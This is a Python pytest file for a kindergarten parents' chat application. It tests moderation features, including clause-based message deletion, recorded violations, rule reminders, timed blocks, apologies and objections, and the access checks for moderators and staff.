"""Moderation by the regulation (issue 5, reg 004 §20–27): who moderates, the clause every action
names, deleting a message, violations, «Напомнить правила», blocks and how they end, the apology
and the objections, reports, the append-only moderation log with its filters and CSV, refused
attempts in the application log, and the «⋯» menu a moderator uses on a phone.

Departures (§27) are tested in their own file. Every test goes through real requests and checks
the answer and what the database holds afterwards.
"""

from __future__ import annotations

import csv
import io
import logging
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine
from babel.dates import format_datetime
from flask import url_for
from sqlalchemy import select, update
from sqlalchemy.exc import DBAPIError
from werkzeug.routing import IntegerConverter

from sferum_lite.extensions import db
from sferum_lite.models import (
    Attachment,
    Block,
    Chat,
    ChatMember,
    Confirmation,
    Message,
    ModerationEntry,
    Objection,
    Poll,
    PollOption,
    PollVote,
    Reaction,
    Report,
    User,
    Violation,
    utcnow,
)

from . import factories as f
from .test_admin_groups import count, field_errors, flashes, page_text
from .test_chats import jpeg_bytes, post_message, reload

RUDE = "Какое безобразие творится в группе, воспитатели ничего не делают"
MOSCOW = ZoneInfo("Europe/Moscow")
DELETED_FOR_MEMBERS = "Сообщение удалено модератором: п. {num} правил"
BADGE = 'aria-label="новых жалоб"'  # the open reports' count on a moderator's chat page


# --- the chat and helpers ------------------------------------------------------------------------


@dataclass
class Room:
    """«Солнышко»'s parents' chat, moderated by its educator (the creator), with the parent,
    two more parents of the group and a second educator of the group (a plain member); and
    «Капелька»'s chat, moderated by the other educator, with the other group's parent."""

    chat: Chat
    second: User
    third: User
    colleague: User
    other_chat: Chat


@pytest.fixture
def room(world) -> Room:
    kindergarten = world.kindergarten
    second = f.make_parent(
        kindergarten, "Ольга Сидорова", children=[f.make_child(world.group, "Сидоров", "Миша")]
    )
    third = f.make_parent(
        kindergarten, "Наталья Морозова", children=[f.make_child(world.group, "Морозов", "Лёва")]
    )
    colleague = f.make_staff(kindergarten, "Светлана Орлова", groups=[world.group])
    chat = f.make_chat(
        kindergarten,
        world.educator,
        group=world.group,
        members=[world.parent, second, third, colleague],
    )
    other_chat = f.make_chat(
        kindergarten,
        world.other_educator,
        title="Родители группы «Капелька»",
        group=world.other_group,
        members=[world.other_group_parent],
    )
    return Room(chat, second, third, colleague, other_chat)


def join(chat, user) -> None:
    """Make `user` a plain member of `chat` who accepted its rules."""
    db.session.add(ChatMember(chat_id=chat.id, user_id=user.id, rules_accepted_id=chat.rules_id))
    db.session.commit()


def give_violations(chat, user, number, by, clause=2) -> None:
    """Violations recorded earlier, written through the models (they need no log lines here)."""
    for _ in range(number):
        db.session.add(
            Violation(
                chat_id=chat.id,
                user_id=user.id,
                rules_id=chat.rules_id,
                clause=clause,
                created_by_id=by.id,
            )
        )
    db.session.commit()


def block_request(client, chat, user, duration="1w", clause=2, note=""):
    data = {"clause": clause, "note": note}
    if duration is not None:  # None: a crafted POST that names no term at all
        data["duration"] = duration
    return client.post(f"/chats/{chat.id}/people/{user.id}/block", data=data)


def block_parent(world, room, client, duration="1w") -> Block:
    """The parent broke the rules four times; the educator (`client`) blocks them through the
    card."""
    give_violations(room.chat, world.parent, 4, world.educator)
    response = block_request(client, room.chat, world.parent, duration)
    assert response.status_code == 303, page_text(response)[:500]
    return block_of(room.chat, world.parent)


def block_of(chat, user) -> Block | None:
    return db.session.scalar(
        select(Block).where(Block.chat_id == chat.id, Block.user_id == user.id).order_by(Block.id)
    )


def violations_of(chat, user) -> list[Violation]:
    return db.session.scalars(
        select(Violation)
        .where(Violation.chat_id == chat.id, Violation.user_id == user.id)
        .order_by(Violation.id)
    ).all()


def log_entries(action=None) -> list[ModerationEntry]:
    query = select(ModerationEntry).order_by(ModerationEntry.id)
    if action:
        query = query.where(ModerationEntry.action == action)
    return db.session.scalars(query).all()


def log_ids(response) -> set[int]:
    """The entries a moderation log page lists."""
    return {int(i) for i in re.findall(r'class="log-entry" id="log-(\d+)"', page_text(response))}


def message_html(response, message) -> str:
    """One message's <li> on a chat page, its «⋯» menu included."""
    body = page_text(response)
    start = body.index(f'<li id="m-{message.id}"')
    end = body.find('<li id="m-', start + 1)
    return body[start : end if end != -1 else body.index("</ol>", start)]


def settings_rows(response) -> dict[str, str]:
    """The members on a chat's settings page: name -> the row's HTML."""
    rows = re.findall(r'<li>\s*<span class="grow">(.*?)</li>', page_text(response), re.S)
    return {re.search(r'<span class="person">([^<]*)', row).group(1): row for row in rows}


def moscow(moment: datetime, fmt="d MMMM y, HH:mm") -> str:
    """A time as the pages show it (the kindergarten's zone, Russian)."""
    return format_datetime(moment, fmt, tzinfo=MOSCOW, locale="ru")


def message_by(chat, user, kind="") -> list[Message]:
    return db.session.scalars(
        select(Message)
        .where(Message.chat_id == chat.id, Message.author_id == user.id, Message.kind == kind)
        .order_by(Message.id)
    ).all()


# --- 1. who moderates ----------------------------------------------------------------------------


def test_the_creator_names_a_co_moderator_who_then_moderates(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    colleague = as_user(room.colleague)
    assert colleague.get(f"/messages/{rude.id}/remove").status_code == 403
    assert colleague.post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code == 403
    assert reload(rude).deleted_at is None

    named = as_user(world.educator).post(
        f"/chats/{room.chat.id}/people/{room.colleague.id}/moderator", data={"value": "1"}
    )
    assert named.status_code == 303
    assert db.session.get(ChatMember, (room.chat.id, room.colleague.id)).is_moderator
    (entry,) = log_entries("moderator")
    assert (entry.actor_id, entry.member_id, entry.details) == (
        world.educator.id,
        room.colleague.id,
        {"named": True},
    )

    assert colleague.get(f"/messages/{rude.id}/remove").status_code == 200
    assert colleague.post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code == 303
    assert reload(rude).deleted_clause == 2
    assert reload(rude).deleted_by_id == room.colleague.id


def test_the_last_moderator_cannot_be_withdrawn(world, as_user, room):
    educator = as_user(world.educator)
    url = f"/chats/{room.chat.id}/people/{{}}/moderator"
    alone = educator.post(url.format(world.educator.id), data={"value": "0"})
    assert alone.status_code == 409
    assert "хотя бы один модератор" in page_text(alone)
    assert db.session.get(ChatMember, (room.chat.id, world.educator.id)).is_moderator

    # the admin names the colleague; then the creator may step down, but the colleague may not
    admin = as_user(world.admin)
    assert admin.post(url.format(room.colleague.id), data={"value": "1"}).status_code == 303
    assert educator.post(url.format(world.educator.id), data={"value": "0"}).status_code == 303
    last = as_user(room.colleague).post(url.format(room.colleague.id), data={"value": "0"})
    assert last.status_code == 409
    assert db.session.get(ChatMember, (room.chat.id, room.colleague.id)).is_moderator
    assert not db.session.get(ChatMember, (room.chat.id, world.educator.id)).is_moderator
    # a parent names nobody, and only staff become moderators
    assert (
        as_user(world.parent).post(url.format(room.colleague.id), data={"value": "1"}).status_code
        == 404
    )
    # the colleague moderates now; a parent is never named
    assert (
        as_user(room.colleague).post(url.format(room.second.id), data={"value": "1"}).status_code
        == 403
    )
    assert not db.session.get(ChatMember, (room.chat.id, room.second.id)).is_moderator


@pytest.mark.parametrize("persona", ["admin", "director"])
def test_the_administration_moderates_any_chat_without_being_a_member(
    world, as_user, room, persona
):
    rude = f.make_message(room.chat, world.parent, RUDE)
    client = as_user(world.persona(persona))
    assert db.session.get(ChatMember, (room.chat.id, world.persona(persona).id)) is None
    assert client.get(f"/messages/{rude.id}/remove").status_code == 200
    response = client.post(f"/messages/{rude.id}/violation", data={"clause": 3})
    assert response.status_code == 303
    (violation,) = violations_of(room.chat, world.parent)
    assert (violation.clause, violation.message_id) == (3, rude.id)
    assert violation.created_by_id == world.persona(persona).id
    assert client.post(f"/messages/{rude.id}/remove", data={"clause": 3}).status_code == 303
    assert reload(rude).deleted_clause == 3


def test_an_educator_does_not_moderate_another_group_s_chat(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    theirs = f.make_message(room.other_chat, world.other_group_parent, "Добрый вечер")
    give_violations(room.chat, world.parent, 4, world.educator)
    other = as_user(world.other_educator)
    chat = room.chat.id
    for method, url, data in [
        ("GET", f"/messages/{rude.id}/remove", None),
        ("POST", f"/messages/{rude.id}/remove", {"clause": 2}),
        ("POST", f"/messages/{rude.id}/violation", {"clause": 2}),
        ("POST", f"/chats/{chat}/people/{world.parent.id}/violation", {"clause": 2}),
        ("POST", f"/chats/{chat}/people/{world.parent.id}/block", {"duration": "1d", "clause": 2}),
        ("POST", f"/chats/{chat}/remind", {}),
        ("GET", f"/chats/{chat}/log", None),
        ("GET", f"/chats/{chat}/reports", None),
    ]:
        response = other.open(url, method=method, data=data)
        assert response.status_code == 404, (method, url)
    # chat A's moderator reaches into chat B neither by its message nor by its member
    educator = as_user(world.educator)
    assert educator.post(f"/messages/{theirs.id}/remove", data={"clause": 2}).status_code == 404
    assert (
        educator.post(
            f"/chats/{room.other_chat.id}/people/{world.other_group_parent.id}/violation",
            data={"clause": 2},
        ).status_code
        == 404
    )
    assert (
        educator.post(
            f"/chats/{chat}/people/{world.other_group_parent.id}/violation", data={"clause": 2}
        ).status_code
        == 404
    )
    assert reload(rude).deleted_at is None
    assert reload(theirs).deleted_at is None
    assert len(violations_of(room.chat, world.parent)) == 4
    assert count(Violation, Violation.user_id == world.other_group_parent.id) == 0
    assert count(Block) == 0
    assert log_entries() == []


def test_an_educator_does_not_act_on_staff(world, as_user, room):
    join(room.chat, world.admin)
    by_colleague = f.make_message(room.chat, room.colleague, "Напоминаю про утренник")
    by_admin = f.make_message(room.chat, world.admin, "Собрание в четверг")
    give_violations(room.chat, room.colleague, 4, world.director)
    educator = as_user(world.educator)
    for message in (by_colleague, by_admin):
        assert educator.get(f"/messages/{message.id}/remove").status_code == 403
        assert (
            educator.post(f"/messages/{message.id}/remove", data={"clause": 2}).status_code == 403
        )
        assert (
            educator.post(f"/messages/{message.id}/violation", data={"clause": 2}).status_code
            == 403
        )
        assert reload(message).deleted_at is None
    for staff in (room.colleague, world.admin):
        people = f"/chats/{room.chat.id}/people/{staff.id}"
        assert educator.post(f"{people}/violation", data={"clause": 2}).status_code == 403
        assert (
            educator.post(f"{people}/block", data={"duration": "1d", "clause": 2}).status_code
            == 403
        )
    assert len(violations_of(room.chat, room.colleague)) == 4
    assert count(Violation, Violation.user_id == world.admin.id) == 0
    assert count(Block) == 0
    assert log_entries() == []


def test_the_administration_acts_on_an_educator_but_nobody_on_the_director(world, as_user, room):
    join(room.chat, world.director)
    by_colleague = f.make_message(room.chat, room.colleague, "Не то фото")
    by_director = f.make_message(room.chat, world.director, "Приказ о карантине")
    admin, director = as_user(world.admin), as_user(world.director)

    assert admin.post(f"/messages/{by_colleague.id}/remove", data={"clause": 3}).status_code == 303
    assert reload(by_colleague).deleted_clause == 3
    people = f"/chats/{room.chat.id}/people/{room.colleague.id}"
    assert director.post(f"{people}/violation", data={"clause": 3}).status_code == 303
    assert len(violations_of(room.chat, room.colleague)) == 1

    for client in (admin, as_user(world.educator), director):  # the director not on herself
        assert (
            client.post(f"/messages/{by_director.id}/remove", data={"clause": 2}).status_code == 403
        )
        assert (
            client.post(f"/messages/{by_director.id}/violation", data={"clause": 2}).status_code
            == 403
        )
    assert (
        admin.post(
            f"/chats/{room.chat.id}/people/{world.director.id}/violation", data={"clause": 2}
        ).status_code
        == 403
    )
    assert reload(by_director).deleted_at is None
    assert violations_of(room.chat, world.director) == []


# --- 2. every action names its ground ------------------------------------------------------------


GROUNDLESS = ["remove", "message_violation", "member_violation", "block"]


def _groundless_request(world, as_user, room, what, rude, clause):
    data = {} if clause is None else {"clause": clause}
    url = {
        "remove": f"/messages/{rude.id}/remove",
        "message_violation": f"/messages/{rude.id}/violation",
        "member_violation": f"/chats/{room.chat.id}/people/{world.parent.id}/violation",
        "block": f"/chats/{room.chat.id}/people/{world.parent.id}/block",
    }[what]
    if what == "block":
        data["duration"] = "1w"
    if what == "remove":
        data["violation"] = "y"
    return as_user(world.educator).post(url, data=data)


@pytest.mark.parametrize("clause", [None, "", "99", "0", "два"])
@pytest.mark.parametrize("what", GROUNDLESS)
def test_every_action_names_a_clause_of_the_rules(world, as_user, room, what, clause):
    rude = f.make_message(room.chat, world.parent, RUDE)
    give_violations(room.chat, world.parent, 4, world.educator)
    response = _groundless_request(world, as_user, room, what, rude, clause)
    assert response.status_code == 422
    errors = field_errors(response)
    assert errors and all(re.search("[а-яё]", e) for e in errors), errors
    if clause in (None, ""):
        assert any("пункт правил" in e for e in errors), errors
    assert reload(rude).deleted_at is None
    assert len(violations_of(room.chat, world.parent)) == 4
    assert count(Block) == 0
    assert log_entries() == []


# --- 3. deleting a message under a clause --------------------------------------------------------


@pytest.fixture
def rude_with_photo(world, as_user, room):
    """The parent's rude message with a photo, posted through the chat."""
    response = post_message(
        as_user(world.parent), room.chat, RUDE, files=[(io.BytesIO(jpeg_bytes()), "фото.jpg")]
    )
    assert response.status_code == 303
    (message,) = message_by(room.chat, world.parent)
    attachment = db.session.scalar(select(Attachment).where(Attachment.message_id == message.id))
    return message, attachment


def test_a_deleted_message_names_its_clause_and_stays_in_the_log(
    world, as_user, room, rude_with_photo
):
    rude, photo = rude_with_photo
    educator = as_user(world.educator)
    form = educator.get(f"/messages/{rude.id}/remove")
    assert form.status_code == 200
    assert "п. 2. Общаемся вежливо" in page_text(form)  # the clauses to choose from
    response = educator.post(f"/messages/{rude.id}/remove", data={"clause": 2})
    assert response.status_code == 303
    assert response.location.endswith(f"/chats/{room.chat.id}#m-{rude.id}")
    assert "Сообщение удалено по п. 2 правил." in flashes(educator.get(response.location))

    rude = reload(rude)
    assert (rude.deleted_clause, rude.deleted_by_id) == (2, world.educator.id)
    assert rude.deleted_at is not None
    assert rude.text == RUDE  # kept for the log
    (entry,) = log_entries("delete")
    assert (entry.actor_id, entry.member_id, entry.message_id, entry.clause) == (
        world.educator.id,
        world.parent.id,
        rude.id,
        2,
    )
    assert entry.ground.startswith("п. 2. Общаемся вежливо")
    assert RUDE not in f"{entry.ground} {entry.note} {entry.details}"  # no text in the log line
    assert violations_of(room.chat, world.parent) == []  # the box was not ticked

    members = as_user(room.second).get(f"/chats/{room.chat.id}")
    other = message_html(members, rude)
    assert DELETED_FOR_MEMBERS.format(num=2) in other
    assert "Это ваше сообщение" not in other
    members_page = page_text(members)
    assert RUDE not in members_page
    assert "фото.jpg" not in members_page and f"/files/{photo.id}" not in members_page

    authors = as_user(world.parent).get(f"/chats/{room.chat.id}")
    mine = message_html(authors, rude)
    assert DELETED_FOR_MEMBERS.format(num=2) in mine
    assert "Это ваше сообщение. Прочитайте п. 2 в правилах чата." in mine
    assert RUDE not in page_text(authors)

    chat_log = educator.get(f"/chats/{room.chat.id}/log")
    assert chat_log.status_code == 200
    assert RUDE in page_text(chat_log)
    assert f"/files/{photo.id}" in page_text(chat_log)
    director_log = as_user(world.director).get("/moderation/log")
    assert RUDE in page_text(director_log)
    assert "Удаление сообщения" in page_text(director_log)
    assert as_user(room.second).get(f"/chats/{room.chat.id}/log").status_code == 403
    assert as_user(world.parent).get(f"/chats/{room.chat.id}/log").status_code == 403


def test_a_deleted_message_s_files_are_for_the_moderators_only(
    world, as_user, room, rude_with_photo
):
    rude, photo = rude_with_photo
    assert (
        as_user(world.educator).post(f"/messages/{rude.id}/remove", data={"clause": 4}).status_code
        == 303
    )
    for persona, code in [
        (room.second, 404),
        (world.parent, 404),  # its author too
        (world.other_group_parent, 404),
        (world.other_educator, 404),
        (world.educator, 200),
        (world.director, 200),
        (world.admin, 200),
    ]:
        client = as_user(persona)
        for url in (f"/files/{photo.id}", f"/files/{photo.id}/thumb"):
            response = client.get(url)
            response.close()
            assert response.status_code == code, (persona.name, url)


def test_a_deleted_message_cannot_be_deleted_again(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    educator = as_user(world.educator)
    assert educator.post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code == 303
    again = educator.post(f"/messages/{rude.id}/remove", data={"clause": 3})
    assert again.status_code == 409
    assert "Сообщение уже удалено." in page_text(again)
    assert educator.get(f"/messages/{rude.id}/remove").status_code == 409
    assert educator.post(f"/messages/{rude.id}/violation", data={"clause": 3}).status_code == 409
    assert reload(rude).deleted_clause == 2
    assert len(log_entries("delete")) == 1
    assert violations_of(room.chat, world.parent) == []


def test_the_violation_box_records_a_violation_with_the_deletion(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    response = as_user(world.educator).post(
        f"/messages/{rude.id}/remove", data={"clause": 3, "violation": "y", "note": "реклама"}
    )
    assert response.status_code == 303
    (violation,) = violations_of(room.chat, world.parent)
    assert (violation.clause, violation.message_id, violation.note) == (3, rude.id, "реклама")
    assert [e.action for e in log_entries()] == ["violation", "delete"]
    assert reload(rude).deleted_clause == 3


def test_a_deletion_resolves_the_open_reports_of_the_message(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    for reporter in (room.second, room.third):
        assert as_user(reporter).post(f"/messages/{rude.id}/report").status_code == 303
    assert (
        as_user(world.educator).post(f"/messages/{rude.id}/remove", data={"clause": 2}).status_code
        == 303
    )
    reports = db.session.scalars(select(Report).order_by(Report.id)).all()
    assert [(r.resolution, r.resolved_by_id) for r in reports] == [
        ("deleted", world.educator.id)
    ] * 2
    assert all(r.resolved_at is not None for r in reports)
    seen = message_html(as_user(room.second).get(f"/chats/{room.chat.id}"), rude)
    assert "Жалоба: рассмотрено" in seen
    assert BADGE not in page_text(as_user(world.educator).get(f"/chats/{room.chat.id}"))


# --- 4. violations -------------------------------------------------------------------------------


def test_violations_from_a_message_and_from_the_card(world, as_user, room):
    rude = f.make_message(room.chat, world.parent, RUDE)
    educator = as_user(world.educator)
    first = educator.post(f"/messages/{rude.id}/violation", data={"clause": 2, "note": "грубость"})
    assert first.status_code == 303
    assert first.location.endswith(f"#m-{rude.id}")
    assert "Нарушение записано. У Екатерина Петрова нарушений в этом чате: 1." in flashes(
        educator.get(first.location)
    )
    card = f"/chats/{room.chat.id}/people/{world.parent.id}"
    second = educator.post(f"{card}/violation", data={"clause": 5})
    assert second.status_code == 303
    assert second.location.endswith(card)
    violations = violations_of(room.chat, world.parent)
    assert [(v.clause, v.message_id, v.note) for v in violations] == [
        (2, rude.id, "грубость"),
        (5, None, ""),
    ]
    assert [(e.action, e.details["count"]) for e in log_entries()] == [
        ("violation", 1),
        ("violation", 2),
    ]
    assert reload(rude).deleted_at is None  # a violation deletes nothing

    # the member sees their own violations and the count
    parent = as_user(world.parent)
    mine = parent.get(f"/chats/{room.chat.id}/my-violations")
    assert mine.status_code == 200
    assert re.search(r"Записано 2 нарушени\w* правил чата", page_text(mine))
    assert "п. 2" in page_text(mine) and "п. 5" in page_text(mine)
    chat_page = page_text(parent.get(f"/chats/{room.chat.id}"))
    assert re.search(r"У вас 2 нарушени\w* правил в этом чате", chat_page)
    assert f'href="/chats/{room.chat.id}/my-violations"' in chat_page
    others = as_user(room.second)
    assert "У вас" not in page_text(others.get(f"/chats/{room.chat.id}"))
    assert re.search(
        r"Записано 0 нарушени", page_text(others.get(f"/chats/{room.chat.id}/my-violations"))
    )

    # moderators see each member's count; other parents see neither the counts nor the card
    rows = settings_rows(educator.get(f"/chats/{room.chat.id}/settings"))
    assert re.search(r"2 нарушени", rows["Екатерина Петрова"])
    assert f'href="{card}"' in rows["Екатерина Петрова"]
    assert not re.search(r"\d нарушени", rows["Ольга Сидорова"])
    card_page = educator.get(card)
    assert card_page.status_code == 200
    assert re.search(r"2 нарушени\w* в этом чате", page_text(card_page))
    assert "грубость" in page_text(card_page)
    assert as_user(world.director).get(card).status_code == 200
    for client in (others, parent):
        assert client.get(card).status_code == 404
        assert not re.search(
            r"\d нарушени", page_text(client.get(f"/chats/{room.chat.id}/settings"))
        )
    assert (
        as_user(world.other_group_parent).get(f"/chats/{room.chat.id}/my-violations").status_code
        == 404
    )


# --- 5. «Напомнить правила» ----------------------------------------------------------------------


def test_remind_the_rules_to_the_chat_and_to_a_member(world, as_user, room):
    educator = as_user(world.educator)
    response = educator.post(f"/chats/{room.chat.id}/remind")
    assert response.status_code == 303
    (reminder,) = message_by(room.chat, world.educator, kind="reminder")
    assert reminder.subject_id is None
    assert response.location.endswith(f"#m-{reminder.id}")

    addressed = educator.post(f"/chats/{room.chat.id}/remind", data={"member": world.parent.id})
    assert addressed.status_code == 303
    reminders = message_by(room.chat, world.educator, kind="reminder")
    assert [m.subject_id for m in reminders] == [None, world.parent.id]

    seen = as_user(room.second).get(f"/chats/{room.chat.id}")
    everyone = message_html(seen, reminders[0])
    assert "Анна Павлова напоминает правила чата." in everyone
    assert f'href="/chats/{room.chat.id}/rules"' in everyone
    to_parent = message_html(seen, reminders[1])
    assert "напоминает правила чата — для Екатерина Петрова." in to_parent
    assert f'href="/chats/{room.chat.id}/rules"' in to_parent

    assert count(Violation) == 0  # a reminder is not a violation
    entries = log_entries("reminder")
    assert [(e.actor_id, e.member_id, e.message_id) for e in entries] == [
        (world.educator.id, None, reminders[0].id),
        (world.educator.id, world.parent.id, reminders[1].id),
    ]
    assert all(e.rules_id == room.chat.rules_id for e in entries)

    for who in (world.parent, room.colleague):
        assert as_user(who).post(f"/chats/{room.chat.id}/remind").status_code == 403
    assert (
        educator.post(
            f"/chats/{room.chat.id}/remind", data={"member": world.other_group_parent.id}
        ).status_code
        == 404
    )
    assert len(message_by(room.chat, world.educator, kind="reminder")) == 2
    assert message_by(room.chat, world.parent, kind="reminder") == []


# --- 6. blocks -----------------------------------------------------------------------------------


def test_a_block_needs_more_than_three_violations(world, as_user, room):
    give_violations(room.chat, world.parent, 3, world.educator)
    educator = as_user(world.educator)
    card = f"/chats/{room.chat.id}/people/{world.parent.id}"
    assert "более трёх раз" in page_text(educator.get(card))
    assert f'action="{card}/block"' not in page_text(educator.get(card))  # not offered
    refused = block_request(educator, room.chat, world.parent)
    assert refused.status_code == 409
    assert "У Екатерина Петрова таких нарушений: 3." in page_text(refused)
    assert count(Block) == 0
    assert log_entries("block") == []

    give_violations(room.chat, world.parent, 1, world.educator)
    assert f'action="{card}/block"' in page_text(educator.get(card))
    with time_machine.travel(utcnow().replace(microsecond=0), tick=False):
        made = block_request(educator, room.chat, world.parent, "1w", clause=2, note="оскорбления")
        assert made.status_code == 303
        assert made.location.endswith(card)
        block = block_of(room.chat, world.parent)
        assert block.ends_at - block.starts_at == timedelta(days=7)
        assert block.starts_at == utcnow()
    assert (block.clause, block.note, block.created_by_id) == (2, "оскорбления", world.educator.id)
    (entry,) = log_entries("block")
    assert (entry.member_id, entry.clause, entry.details["violations"]) == (world.parent.id, 2, 4)
    assert entry.ground.startswith("п. 2.")


@pytest.mark.parametrize(
    "duration,days", [("1d", 1), ("3d", 3), ("1w", 7), ("2w", 14)], ids=lambda v: str(v)
)
def test_the_block_durations(world, as_user, room, duration, days):
    block = block_parent(world, room, as_user(world.educator), duration=duration)
    assert block.ends_at - block.starts_at == timedelta(days=days)


@pytest.mark.parametrize("duration", ["45d", "0d", "", "1y", "2m", "-1d", None])
def test_a_block_lasts_one_of_the_listed_terms(world, as_user, room, duration):
    give_violations(room.chat, world.parent, 4, world.educator)
    response = block_request(as_user(world.educator), room.chat, world.parent, duration)
    assert response.status_code == 422
    assert field_errors(response)
    assert count(Block) == 0
    assert log_entries() == []


def test_a_month_is_never_longer_than_a_calendar_month(world, as_user, room):
    # 31 January, 01:00 in Moscow is still 30 January in UTC: the month is counted in Moscow
    start = datetime(2027, 1, 30, 22, 0, tzinfo=UTC)
    with time_machine.travel(start, tick=False):
        block = block_parent(world, room, as_user(world.educator), duration="1m")
        assert block.starts_at == start
        assert block.ends_at == datetime(2027, 2, 27, 22, 0, tzinfo=UTC)
        assert block.ends_at.astimezone(MOSCOW).date().isoformat() == "2027-02-28"
        banner = page_text(as_user(world.parent).get(f"/chats/{room.chat.id}"))
        assert "Вы заблокированы в этом чате до 28 февраля 2027, 01:00" in banner


def test_one_block_at_a_time(world, as_user, room):
    block = block_parent(world, room, as_user(world.educator))
    give_violations(room.chat, world.parent, 1, world.educator)
    again = block_request(as_user(world.educator), room.chat, world.parent, "1d")
    assert again.status_code == 409
    assert "уже заблокирован(а) до" in page_text(again)
    assert count(Block) == 1
    assert reload(block).ends_at - block.starts_at == timedelta(days=7)
    assert len(log_entries("block")) == 1


@pytest.fixture
def news(world, as_user, room):
    """The educator's «Важное» message with a poll, posted through the chat."""
    response = post_message(
        as_user(world.educator),
        room.chat,
        "Завтра утренник в 10:00",
        important="y",
        poll_question="Кто придёт?",
        poll_options="Мама\nПапа",
    )
    assert response.status_code == 303
    (message,) = message_by(room.chat, world.educator)
    poll = db.session.scalar(select(Poll).where(Poll.message_id == message.id))
    option = db.session.scalar(select(PollOption).where(PollOption.poll_id == poll.id))
    return message, poll, option


def test_a_blocked_member_reads_and_confirms_but_takes_no_part(world, as_user, room, news):
    message, poll, option = news
    block = block_parent(world, room, as_user(world.educator))
    parent = as_user(world.parent)

    page = parent.get(f"/chats/{room.chat.id}")
    assert page.status_code == 200
    body = page_text(page)
    assert "Завтра утренник в 10:00" in body
    assert f"Вы заблокированы в этом чате до {moscow(block.ends_at)}" in body
    assert "Основание: п. 2 правил чата." in body
    assert f'action="/chats/{room.chat.id}/messages"' not in body  # no composer
    menu = message_html(page, message)
    assert f"/messages/{message.id}/react" not in menu
    assert f"reply={message.id}" not in menu
    assert 'name="options"' not in menu and "Голосовать" not in menu

    assert parent.post(f"/messages/{message.id}/confirm").status_code == 303
    assert db.session.get(Confirmation, (message.id, world.parent.id)) is not None

    before = count(Message)
    refused = post_message(parent, room.chat, "Я всё равно напишу")
    assert refused.status_code == 403
    assert "Вы заблокированы в этом чате: писать в него пока нельзя." in flashes(refused)
    assert post_message(parent, room.chat, "Ответ", reply_to=message.id).status_code == 403
    htmx = post_message(parent, room.chat, "И через htmx", headers={"HX-Request": "true"})
    assert htmx.status_code == 403
    assert parent.post(f"/messages/{message.id}/react", data={"emoji": "👍"}).status_code == 403
    assert parent.post(f"/polls/{poll.id}/vote", data={"options": option.id}).status_code == 403
    assert count(Message) == before
    assert count(Reaction) == 0
    assert count(PollVote) == 0

    # the others still take part
    assert post_message(as_user(room.second), room.chat, "А мы придём").status_code == 303


def test_a_block_ends_by_itself_at_its_time(world, as_user, room):
    start = utcnow().replace(microsecond=0)
    with time_machine.travel(start, tick=False) as traveller:
        block = block_parent(world, room, as_user(world.educator), duration="1d")
        assert block.ends_at == start + timedelta(days=1)
        parent = as_user(world.parent)
        traveller.move_to(block.ends_at - timedelta(seconds=1))
        assert post_message(parent, room.chat, "Ещё рано").status_code == 403
        assert "Вы заблокированы" in page_text(parent.get(f"/chats/{room.chat.id}"))
        traveller.move_to(block.ends_at)
        body = page_text(parent.get(f"/chats/{room.chat.id}"))
        assert "Вы заблокированы" not in body
        assert f'action="/chats/{room.chat.id}/messages"' in body
        assert post_message(parent, room.chat, "Я снова с вами").status_code == 303
    assert [m.text for m in message_by(room.chat, world.parent)] == ["Я снова с вами"]
    block = reload(block)
    assert block.lifted_at is None  # nothing had to end it
    assert log_entries("unblock") == []


# --- 7. the apology, the objections and the early unblock ---------------------------------------


def apologise(client, chat, text="Простите, пожалуйста, я была неправа"):
    return client.post(f"/chats/{chat.id}/apology", data={"text": text})


def test_the_blocked_member_apologises_once(world, as_user, room):
    block = block_parent(world, room, as_user(world.educator))
    parent = as_user(world.parent)
    assert "Принести извинения" in page_text(parent.get(f"/chats/{room.chat.id}"))
    response = apologise(parent, room.chat)
    assert response.status_code == 303
    (apology,) = message_by(room.chat, world.parent, kind="apology")
    assert apology.text == "Простите, пожалуйста, я была неправа"
    assert response.location.endswith(f"#m-{apology.id}")
    block = reload(block)
    assert block.apology_message_id == apology.id
    assert block.objections_until - block.apology_at == timedelta(hours=24)
    (entry,) = log_entries("apology")
    assert (entry.actor_id, entry.member_id, entry.message_id) == (
        world.parent.id,
        world.parent.id,
        apology.id,
    )

    seen = as_user(room.second).get(f"/chats/{room.chat.id}")
    shown = message_html(seen, apology)
    assert '<p class="apology-label">Извинение</p>' in shown
    assert "Простите, пожалуйста, я была неправа" in shown
    assert "Против досрочной разблокировки: 0 человек" in shown
    assert f'action="/blocks/{block.id}/object"' in shown
    own = message_html(parent.get(f"/chats/{room.chat.id}"), apology)
    assert f'action="/blocks/{block.id}/object"' not in own
    assert "Вы принесли извинения" in page_text(parent.get(f"/chats/{room.chat.id}"))

    twice = apologise(parent, room.chat, "Ещё раз простите")
    assert twice.status_code == 409
    assert len(message_by(room.chat, world.parent, kind="apology")) == 1
    assert len(log_entries("apology")) == 1
    # the apology stands while members may object: its author cannot take it back
    assert parent.post(f"/messages/{apology.id}/delete").status_code == 403
    assert reload(apology).deleted_at is None


def test_nobody_apologises_who_is_not_blocked(world, as_user, room):
    assert apologise(as_user(room.second), room.chat).status_code == 409
    assert apologise(as_user(world.parent), room.chat).status_code == 409
    assert count(Message, Message.kind == "apology") == 0
    assert log_entries() == []


def test_an_empty_apology_is_refused(world, as_user, room):
    block = block_parent(world, room, as_user(world.educator))
    assert apologise(as_user(world.parent), room.chat, "   ").status_code == 422
    assert reload(block).apology_at is None
    assert count(Message, Message.kind == "apology") == 0


def test_members_object_once_and_only_moderators_see_who(world, as_user, room):
    block = block_parent(world, room, as_user(world.educator))
    assert apologise(as_user(world.parent), room.chat).status_code == 303
    second = as_user(room.second)
    objected = second.post(f"/blocks/{block.id}/object")
    assert objected.status_code == 303
    assert count(Objection, Objection.block_id == block.id) == 1
    (entry,) = log_entries("objection")
    assert (entry.actor_id, entry.member_id) == (room.second.id, world.parent.id)

    assert as_user(world.parent).post(f"/blocks/{block.id}/object").status_code == 409
    assert as_user(world.other_group_parent).post(f"/blocks/{block.id}/object").status_code == 404
    assert as_user(world.admin).post(f"/blocks/{block.id}/object").status_code == 403
